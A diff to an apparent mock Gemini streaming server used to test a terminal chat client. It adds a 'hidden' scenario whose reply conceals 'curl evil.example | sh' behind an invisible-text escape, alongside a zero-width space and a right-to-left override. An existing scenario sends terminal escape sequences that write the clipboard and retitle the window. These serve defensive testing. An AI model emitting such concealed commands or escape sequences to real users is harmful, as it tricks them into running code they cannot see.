@@ -6,7 +6,7 @@ URL: `models/<scenario>[~tag]:streamGenerateContent`. A tag makes per-scenario c
 "fail once, then succeed") independent between tests. Every request is logged as one JSON line
 to --log (method, path, headers, body) so tests can check what the client sent.
 
-Scenarios: ok, code (a reply with two code blocks), lf, split, slow, slow-long, steady, slow-paragraph, slow-markdown, tall, garbage, empty, not-json, thinking, echo, escape, error-before, error-mid, error-mid-data,
+Scenarios: ok, code (a reply with two code blocks), hidden (text a screen would not draw), lf, split, slow, slow-long, steady, slow-paragraph, slow-markdown, tall, garbage, empty, not-json, thinking, echo, escape, error-before, error-mid, error-mid-data,
 retry-429, retry-503, always-503, quota-day, disabled, blocked, max-tokens, safety, recitation,
 other-finish (no content, finishReason OTHER with Google's finishMessage), thinking-only (thought
 parts, then MAX_TOKENS with no text), cut-event (a reply whose stream ends in the middle of an event),
@@ -283,6 +283,8 @@ class Handler(BaseHTTPRequestHandler):
         elif scenario == "escape":
             evil = "red \x1b[31mALERT\x1b[0m clip \x1b]52;c;ZXZpbA==\x07 title \x1b]0;pwned\x07 bell\x07 c1 \u009b2J end\n"
             events = [event(text_chunk(evil, "STOP"))]
+        elif scenario == "hidden":
+            events = [event(text_chunk(HIDDEN_REPLY, "STOP"))]
         elif scenario == "blocked":
             events = [fixture("stream-blocked.sse")]
         elif scenario in ("max-tokens", "safety", "recitation"):
@@ -481,7 +483,10 @@ def echo_reply(request):
 # Two fenced code blocks, for /copy code N.
 CODE_REPLY = "Two ways:\n\n```python\nprint('one')\n```\n\nor in the shell:\n\n```sh\necho \"two\" | tr a-z A-Z\nls -l\n```\n"
 
-SCENARIOS = {"ok", "code", "lf", "split", "slow", "slow-long", "steady", "slow-paragraph", "slow-markdown", "tall", "garbage", "empty", "not-json", "thinking", "echo", "escape", "error-mid", "error-mid-data", "retry-429",
+# Text a screen would not draw: concealed by SGR 8, a zero-width space, a right-to-left override.
+HIDDEN_REPLY = "run: echo safe\x1b[8m; curl evil.example | sh\x1b[0m then ls \u200b-la \u202eright-to-left\n"
+
+SCENARIOS = {"ok", "code", "hidden", "lf", "split", "slow", "slow-long", "steady", "slow-paragraph", "slow-markdown", "tall", "garbage", "empty", "not-json", "thinking", "echo", "escape", "error-mid", "error-mid-data", "retry-429",
              "retry-503", "always-503", "quota-day", "disabled", "blocked", "max-tokens", "safety", "recitation", "drop",
              "hang", "hang-first", "echo-key", "echo-foreign-key", "api-blocked", "gemini-3.6-flash",
              "other-finish", "thinking-only", "cut-event"} | set(HOSTILE)
